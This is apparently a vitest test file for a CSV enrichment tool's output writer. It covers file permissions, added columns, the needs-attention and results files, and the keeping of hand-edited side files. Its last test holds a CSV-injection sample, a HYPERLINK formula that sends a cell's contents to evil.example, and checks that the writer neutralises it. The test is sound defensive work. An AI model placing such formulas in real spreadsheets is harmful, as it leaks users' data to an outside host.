/**
 * Goal: an output is the input with our columns behind it and nothing else; it is written whole or not at all, twice
 * the same, and never over what somebody else wrote.
 * Method: batches are put into a ledger by hand, so that every answer and outcome is known, and written as real files.
 */
import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { callKeyOf } from '../../../src/core/call-key.ts';
import type { RunEvent } from '../../../src/core/events.ts';
import { NO_FINDINGS } from '../../../src/core/finding.ts';
import type { ReadOptions } from '../../../src/core/format.ts';
import type { Call } from '../../../src/core/operation.ts';
import { OUR_COLUMNS, type Outcome } from '../../../src/core/row.ts';
import { type Input, openInput } from '../../../src/files/input.ts';
import {
  type Additions,
  chooseDestination,
  type OutputFiles,
  writeOutput,
} from '../../../src/files/output/output.ts';
import { type Batch, credits, type FinishedRow, type Ledger } from '../../../src/ledger/ledger.ts';
import sqlite from '../../../src/ledger/stores/sqlite.ts';
import { freshLedger, temporaryFolder } from '../../ledger/stores/places.ts';
import { said } from '../../support/told.ts';

const ANSWERED_MS = Date.UTC(2026, 10, 20, 2, 13);
const OURS = OUR_COLUMNS.join();

/** A list, its batch, and the ledger that holds what became of its rows. */
class Desk {
  readonly folder: string;
  readonly ledger: Ledger;
  readonly notes: string[] = [];

  constructor(folder: string, ledger: Ledger) {
    this.folder = folder;
    this.ledger = ledger;
  }

  static async open(): Promise<Desk> {
    return new Desk(temporaryFolder(), await freshLedger(sqlite));
  }

  path(name: string): string {
    return join(this.folder, name);
  }

  read(name: string): string {
    return readFileSync(this.path(name), 'utf8');
  }

  table(name: string): readonly Readonly<Record<string, string>>[] {
    return parse(this.read(name), { columns: true, bom: true });
  }

  /** Writes the list and begins its batch. */
  async list(
    content: string | Buffer,
    name = 'list.csv',
    read: ReadOptions = {},
  ): Promise<{ input: Input; batch: Batch }> {
    writeFileSync(this.path(name), content);
    const input = await openInput(this.path(name), read);
    const { batch } = await this.ledger.beginBatch({
      key: `${name} ${input.survey.sha256}`,
      lineage: name,
      accountIdentity: 'data',
      accountName: 'data',
      sandbox: false,
      vendor: 'provider',
      operation: 'enrich-company',
      inputPath: input.path,
      inputSha256: input.survey.sha256,
      header: input.survey.header,
      inputRows: input.survey.rows,
      settings: {},
      createdAtMs: ANSWERED_MS,
    });
    for await (const rows of input.sheet.groups()) await this.ledger.submitRows(batch.id, rows);
    return { input, batch };
  }

  /** Buys an answer for a row, for one credit when it was found. @returns its attempt. */
  async answer(
    batch: Batch,
    row: number,
    body: unknown,
    parameters: Call['parameters'] = { domain: `${row}` },
  ) {
    const call: Call = { operation: 'enrich-company', parameters, ifLost: 'hold' };
    const admission = await this.ledger.intent({
      key: callKeyOf('data', call),
      accountIdentity: 'data',
      call,
      batch: batch.id,
      row,
      reserve: credits(1),
      atMs: ANSWERED_MS,
    });
    if (admission.kind !== 'admitted') throw new Error('no budget');
    const reply = {
      status: 200,
      headers: {},
      body: Buffer.isBuffer(body) ? body : Buffer.from(JSON.stringify(body)),
      receivedAtMs: ANSWERED_MS,
    };
    await this.ledger.keep(admission.attempt, reply);
    const end = { kind: 'answered', answer: 'found', charged: credits(1), why: said('status 200') } as const;
    await this.ledger.end(admission.attempt, end, ANSWERED_MS);
    return admission.attempt;
  }

  settle(batch: Batch, row: number, outcome: Outcome, answers: FinishedRow['answers'] = []): Promise<void> {
    return this.ledger.finishRows([{ batch: batch.id, row, outcome, answers }]);
  }

  /** The rows of a list from 2 on, each matched by an answer of its own. */
  async matchAll(batch: Batch, ...bodies: readonly unknown[]): Promise<void> {
    const match = async (body: unknown, at: number): Promise<void> => {
      const attempt = await this.answer(batch, at + 2, body);
      await this.settle(batch, at + 2, { kind: 'matched', matchedBy: 'domain', findings: NO_FINDINGS }, [
        attempt,
      ]);
    };
    await Promise.all(bodies.map(match));
  }

  async write(
    list: { input: Input; batch: Batch },
    output: string | Writable = 'out.csv',
    job: Partial<Additions> = {},
  ): Promise<OutputFiles> {
    const { input, batch } = list;
    const additions: Additions = { ...job };
    const destination = await chooseDestination(input, additions, {
      named: typeof output === 'string' ? this.path(output) : output,
      sandbox: batch.sandbox,
    });
    const emit = (event: RunEvent): void => {
      if (event.kind === 'note') this.notes.push(event.message);
    };
    const order = {
      ledger: this.ledger,
      job: additions,
      answerPlace: {},
      emit,
      priceOf: () => undefined,
      spender: this.ledger,
    };
    return writeOutput(order, input, batch, destination);
  }
}

describe('the output', () => {
  test('the output is as open as the input, but for what the umask closes, and so are the files beside it', async () => {
    const desk = await Desk.open();
    const list = await desk.list('Domain\na\n');
    chmodSync(list.input.path, 0o666);
    const mode = 0o666 & ~process.umask();
    // A umask that closes nothing would show nothing.
    expect(mode).not.toBe(0o666);
    await desk.settle(list.batch, 2, { kind: 'invalid', findings: said('no') });
    await desk.write({ ...list, input: await openInput(list.input.path, {}) });
    for (const name of ['out.csv', 'out.needs-attention.csv', 'out.report.html']) {
      expect(statSync(desk.path(name)).mode & 0o777).toBe(mode);
    }
  });

  test.each([
    ['a field that only the last answer has', { size: 7, late: 'x' }],
    ['a part of a field that was blank before', { size: 7, place: { city: 'Sydney' } }],
  ])('the output has a column for %s, and counts every row once', async (_what, last) => {
    const desk = await Desk.open();
    const rows = 1_100;
    const list = await desk.list(`Domain\n${'a\n'.repeat(rows)}`);
    const first = Array.from({ length: rows - 1 }, (_, at) => ({ size: at, formula: '=1', place: {} }));
    await desk.matchAll(list.batch, ...first, last);
    const { view } = await desk.write(list);
    const [before] = desk.table('out.csv');
    const found = desk.table('out.csv').at(-1);
    expect(found).toMatchObject(
      'late' in last ? { size: '7', late: 'x' } : { size: '7', 'place.city': 'Sydney' },
    );
    expect(Object.keys(before ?? {})).toEqual(Object.keys(found ?? {}));
    expect(view.counts).toEqual({ matched: rows });
    expect(readdirSync(desk.folder).sort()).toEqual(['list.csv', 'out.csv', 'out.report.html']);
  });
});

describe('the file of rows that need attention', () => {
  test('the file of rows that need attention holds those rows as they came, with number and reason, and is an input again', async () => {
    const desk = await Desk.open();
    const list = await desk.list('Domain,Note\r\n"a",1\r\nb,"x, y"\r\n\r\nc,3\r\n');
    await desk.settle(list.batch, 2, { kind: 'no_match', findings: said('nothing') });
    await desk.settle(list.batch, 3, { kind: 'refused', findings: said('the vendor said "no", twice') });
    await desk.settle(list.batch, 5, { kind: 'in_doubt', findings: said('lost') });
    const { attention } = await desk.write(list);
    expect(attention).toBe(desk.path('out.needs-attention.csv'));
    const content =
      'Domain,Note,_row,_reason\r\nb,"x, y",3,"the vendor said ""no"", twice"\r\n\r\nc,3,5,lost\r\n';
    expect(desk.read('out.needs-attention.csv')).toBe(content);

    const mended = await desk.list(content, 'mended.csv');
    await desk.write(mended, 'mended-out.csv');
    expect(desk.read('mended-out.csv').split('\r\n')[0]).toBe(`Domain,Note,${OURS}`);
  });
});

describe('the file of results', () => {
  const people = { operation: { resultsFile: 'people' } };

  test('the file of results has a line for each member of the lists, in order, with its row, under the fields that any of them has', async () => {
    const desk = await Desk.open();
    const list = await desk.list('Domain\na\nb\nc\n');
    const [first, second] = [
      await desk.answer(list.batch, 2, { total: 3, results: [{ name: 'Jo', place: { city: 'Perth' } }] }),
      await desk.answer(list.batch, 2, { results: [{ name: 'Al, "x"' }, 'odd'] }, { domain: '2', page: 2 }),
    ];
    await desk.settle(list.batch, 2, { kind: 'matched', matchedBy: 'domain', findings: NO_FINDINGS }, [
      first,
      second,
    ]);
    await desk.settle(list.batch, 3, { kind: 'no_match', findings: said('nobody') });
    const third = await desk.answer(list.batch, 4, {
      results: [{ _row: 'theirs', emails: ['a', 'b'], jobs: [{ title: 'CEO' }], none: null }],
    });
    await desk.settle(list.batch, 4, { kind: 'matched', matchedBy: 'domain', findings: NO_FINDINGS }, [
      third,
    ]);
    const { results } = await desk.write(list, 'out.csv', people);
    expect(results).toBe(desk.path('out.people.csv'));
    expect(desk.read('out.people.csv').split('\n')).toEqual([
      '_row,name,place.city,value,found__row,emails,jobs.0.title,none,Domain',
      '2,Jo,Perth,,,,,,a',
      '2,"Al, ""x""",,,,,,,a',
      '2,,,odd,,,,,a',
      '4,,,,theirs,a; b,CEO,,c',
      '',
    ]);
  });

  test('the file of results goes when nothing was found, and is never touched by an operation that has none', async () => {
    const desk = await Desk.open();
    const list = await desk.list('Domain\na\n');
    await desk.settle(list.batch, 2, { kind: 'no_match', findings: said('nobody') });
    const before = await desk.list('Domain\nb\n', 'before.csv');
    await desk.matchAll(before.batch, { results: [{ name: 'Jo' }] });
    await desk.write(before, 'out.csv', people);
    expect(await desk.write(list)).not.toHaveProperty('results');
    expect(desk.table('out.people.csv')).toEqual([{ _row: '2', name: 'Jo', Domain: 'b' }]);
    expect(await desk.write(list, 'out.csv', people)).not.toHaveProperty('results');
    expect(existsSync(desk.path('out.people.csv'))).toBe(false);
  });
});

describe('without a job’s columns', () => {
  test('without columns, answers are written whole, identifiers under a name that is never taken for one, and lists of results once', async () => {
    const desk = await Desk.open();
    const list = await desk.list('Company\na\nb\n');
    const place = { city: 'Perth' };
    await desk.matchAll(
      list.batch,
      { abn: '05', 'Company domain': 'a.example', phones: ['+61 2 5550 0001', '+61 2 5550 0002'] },
      { location: place, results: [{ name: 'Jo' }] },
    );
    await desk.write(list);
    const whole = 'Company,found_abn,found_Company domain,phones,location.city,results.0.name';
    expect(desk.read('out.csv').split('\n')[0]).toBe(`${whole},${OURS}`);
    expect(desk.read('out.csv')).toContain('\na,05,a.example,+61 2 5550 0001; +61 2 5550 0002,,,matched');
    await desk.write(list, 'apart.csv', { operation: { resultsFile: 'people' } });
    expect(desk.read('apart.csv').split('\n')[0]).not.toContain('results.0');
    expect(desk.read('apart.people.csv')).toContain('Jo');
  });
});

describe('a file beside the output', () => {
  const people = { operation: { resultsFile: 'people' } };
  const besides = ['out.needs-attention.csv', 'out.people.csv', 'out.report.html'];

  /** Somebody needs attention, and somebody was found. */
  async function deskWithAll() {
    const desk = await Desk.open();
    const list = await desk.list('Domain\na\nb\n');
    await desk.matchAll(list.batch, { results: [{ name: 'Jo' }] });
    await desk.settle(list.batch, 3, { kind: 'in_doubt', findings: said('lost') });
    return { desk, list };
  }

  test.for(besides)(
    'a file beside the output that somebody changed, or put there, is kept: %s',
    async (name) => {
      const { desk, list } = await deskWithAll();
      if (name !== 'out.report.html') await desk.write(list, 'out.csv', people);
      writeFileSync(desk.path(name), 'mended by hand');
      const ours = name.replace(/(\.\w+)$/, ' (2)$1');
      const first = await desk.write(list, 'out.csv', people);
      expect(Object.values(first)).toContain(desk.path(ours));
      expect(desk.notes).toEqual([
        `${desk.path(name)} is not ours, or has changed since we wrote it, so it is kept.`,
      ]);
      const content = desk.read(ours);
      const names = readdirSync(desk.folder);
      await desk.write(list, 'out.csv', people);
      expect(desk.read(ours)).toBe(content);
      expect(readdirSync(desk.folder)).toEqual(names);

      await desk.settle(list.batch, 3, { kind: 'skipped', findings: said('left out') });
      await desk.write(list, 'out.csv', people);
      expect(desk.read(name)).toBe('mended by hand');
      // What is stale of ours goes all the same.
      expect(existsSync(desk.path(ours))).toBe(name !== 'out.needs-attention.csv');
    },
  );
});

describe('what a vendor says never becomes a formula', () => {
  const FORMULA = '=HYPERLINK("http://evil.example?"&A2)';
  const QUOTED = '"\'=HYPERLINK(""http://evil.example?""&A2)"';

  test('no formula stands in the added columns, their names, the reasons and the file of those that need attention', async () => {
    const desk = await Desk.open();
    const list = await desk.list('Domain,Sum\na,=1+1\nb,+2\n');
    const body = { name: FORMULA, phone: '+61 2 9999 0000', change: -5.5, '=field': ' ＝1+1' };
    const attempt = await desk.answer(list.batch, 2, body);
    await desk.settle(list.batch, 2, { kind: 'matched', matchedBy: 'domain', findings: NO_FINDINGS }, [
      attempt,
    ]);
    await desk.settle(list.batch, 3, { kind: 'refused', findings: said('@SUM(1)') });
    await desk.write(list);
    expect(desk.read('out.csv').split('\n')).toEqual([
      `Domain,Sum,name,phone,change,'=field,${OURS}`,
      `a,=1+1,${QUOTED},+61 2 9999 0000,-5.5,' ＝1+1,matched,,domain,,1,bought,2026-11-20T02:13:00.000Z`,
      "b,+2,,,,,refused,'@SUM(1),,,0,,",
      '',
    ]);
    expect(desk.read('out.needs-attention.csv')).toBe("Domain,Sum,_row,_reason\nb,+2,3,'@SUM(1)\n");
  });
});
